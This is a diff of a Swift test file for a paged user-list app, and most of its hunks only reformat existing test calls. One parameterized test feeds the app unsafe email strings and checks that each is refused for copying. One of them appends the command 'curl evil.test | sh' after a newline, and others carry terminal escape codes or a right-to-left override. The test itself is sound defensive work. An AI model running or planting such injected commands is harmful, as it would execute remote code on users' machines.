@@ -35,8 +35,10 @@ import Testing
         #expect(store.state.position == "1,216-1,234 of 1,234")
         #expect(store.state.visibleRows.allSatisfy { $0.user == nil })
         let ids = (1215..<1234).map { Fixture.user($0).id }
-        store.receive(.pageLoaded(6, pageNumber: 13, .success(Fixture.page(13, count: 1234))),
-                      effects: [.loadDetails(7, userIDs: ids)]) {
+        store.receive(
+            .pageLoaded(6, pageNumber: 13, .success(Fixture.page(13, count: 1234))),
+            effects: [.loadDetails(7, userIDs: ids)]
+        ) {
             $0.users.pageRequests = [:]
             $0.users.pages[13] = Fixture.pageItems(13, count: 1234)
             for id in ids { $0.users.detailsRequests[id] = 7 }
@@ -60,8 +62,11 @@ import Testing
         let cancels = pending.sorted().map { Effect.cancel($0) }
         let next = store.state.nextRequestID
         let newRows = visible.filter { store.state.users.detailsRequests[$0] == nil }
-        store.press(.pageDown, effects: [.loadPage(RequestID(next), UserQuery(pageNumber: 3))] + cancels
-                                            + [.loadDetails(RequestID(next + 1), userIDs: newRows)]) {
+        store.press(
+            .pageDown,
+            effects: [.loadPage(RequestID(next), UserQuery(pageNumber: 3))] + cancels
+                + [.loadDetails(RequestID(next + 1), userIDs: newRows)]
+        ) {
             $0.users.cursor = 114
             $0.users.top = 96
             $0.users.pageRequests = [3: RequestID(next)]
@@ -78,12 +83,18 @@ import Testing
             while !queue.isEmpty {
                 switch queue.removeFirst() {
                 case .loadPage(let id, let query):
-                    queue += reduce(&state, .pageLoaded(id, pageNumber: query.pageNumber,
-                                                        .success(Fixture.page(query.pageNumber, count: 5000))))
+                    queue += reduce(
+                        &state,
+                        .pageLoaded(
+                            id, pageNumber: query.pageNumber,
+                            .success(Fixture.page(query.pageNumber, count: 5000))))
                 case .loadDetails(let id, let ids):
                     for userID in ids {
-                        queue += reduce(&state, .detailsLoaded(id, userID: userID,
-                                                               .success(Fixture.details(Int(userID.dropFirst())!))))
+                        queue += reduce(
+                            &state,
+                            .detailsLoaded(
+                                id, userID: userID,
+                                .success(Fixture.details(Int(userID.dropFirst())!))))
                     }
                 default: break
                 }
@@ -103,8 +114,10 @@ import Testing
         Self.jumpToEnd(&store)
         store.receive(.pageLoaded(6, pageNumber: 13, .failure(.network("timed out")))) {
             $0.users.pageRequests = [:]
-            $0.status = StatusMessage(.error, "Could not load users (page 13): Network error: timed out. "
-                + "You can retry. Press r to retry.")
+            $0.status = StatusMessage(
+                .error,
+                "Could not load users (page 13): Network error: timed out. "
+                    + "You can retry. Press r to retry.")
         }
         store.press(.up, effects: [.loadPage(7, UserQuery(pageNumber: 13))]) {
             $0.users.cursor = 1232
@@ -116,9 +129,13 @@ import Testing
     @Test func aNewCountDropsTheOtherCachedPages() {
         var store = Fixture.loaded()
         Self.jumpToEnd(&store)
-        store.receive(.pageLoaded(6, pageNumber: 13, .success(Fixture.page(13, count: 1210))),
-                      effects: [.loadPage(7, UserQuery(pageNumber: 12)),
-                                .loadDetails(8, userIDs: (1200..<1210).map { Fixture.user($0).id })]) {
+        store.receive(
+            .pageLoaded(6, pageNumber: 13, .success(Fixture.page(13, count: 1210))),
+            effects: [
+                .loadPage(7, UserQuery(pageNumber: 12)),
+                .loadDetails(8, userIDs: (1200..<1210).map { Fixture.user($0).id }),
+            ]
+        ) {
             $0.users.count = 1210
             $0.users.cursor = 1209
             $0.users.top = 1191
@@ -162,14 +179,16 @@ import Testing
         #expect(Effect.cancel(1).isBackendWork)
     }
 
-    @Test("An email that is not printable ASCII without spaces is refused, never copied", arguments: [
-        ("eve@acme.test\ncurl evil.test | sh", "Not copied: the email contains control characters."),
-        ("eve@acme.test\u{1B}[2J", "Not copied: the email contains control characters."),
-        ("eve@acme.test\u{9B}", "Not copied: the email contains control characters."),
-        ("eve @acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
-        ("eve\u{202E}tset.emca@", "Not copied: the email contains spaces or characters outside ASCII."),
-        ("zoë@acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
-    ])
+    @Test(
+        "An email that is not printable ASCII without spaces is refused, never copied",
+        arguments: [
+            ("eve@acme.test\ncurl evil.test | sh", "Not copied: the email contains control characters."),
+            ("eve@acme.test\u{1B}[2J", "Not copied: the email contains control characters."),
+            ("eve@acme.test\u{9B}", "Not copied: the email contains control characters."),
+            ("eve @acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
+            ("eve\u{202E}tset.emca@", "Not copied: the email contains spaces or characters outside ASCII."),
+            ("zoë@acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
+        ])
     func copyEmailRefusesWhatIsUnsafeToPaste(email: String, reason: String) {
         let me = UserDetails(user: User(id: "u00000", name: "User 00000", email: email), roles: [.admin])
         var store = Fixture.loaded(me: me)
@@ -192,8 +211,10 @@ import Testing
     @Test func aVanishedUserIsRemovedAndTheRowsBelowMoveUp() {
         var store = Fixture.loaded()
         Self.reloadUserOne(&store)
-        store.receive(.detailsLoaded(6, userID: "u00001", .failure(.notFound)),
-                      effects: [.loadPage(7, UserQuery(pageNumber: 2)), .loadDetails(8, userIDs: ["u00019"])]) {
+        store.receive(
+            .detailsLoaded(6, userID: "u00001", .failure(.notFound)),
+            effects: [.loadPage(7, UserQuery(pageNumber: 2)), .loadDetails(8, userIDs: ["u00019"])]
+        ) {
             $0.screens = [.users]
             $0.users.detailsRequests = ["u00019": 8]
             $0.users.count = 1233
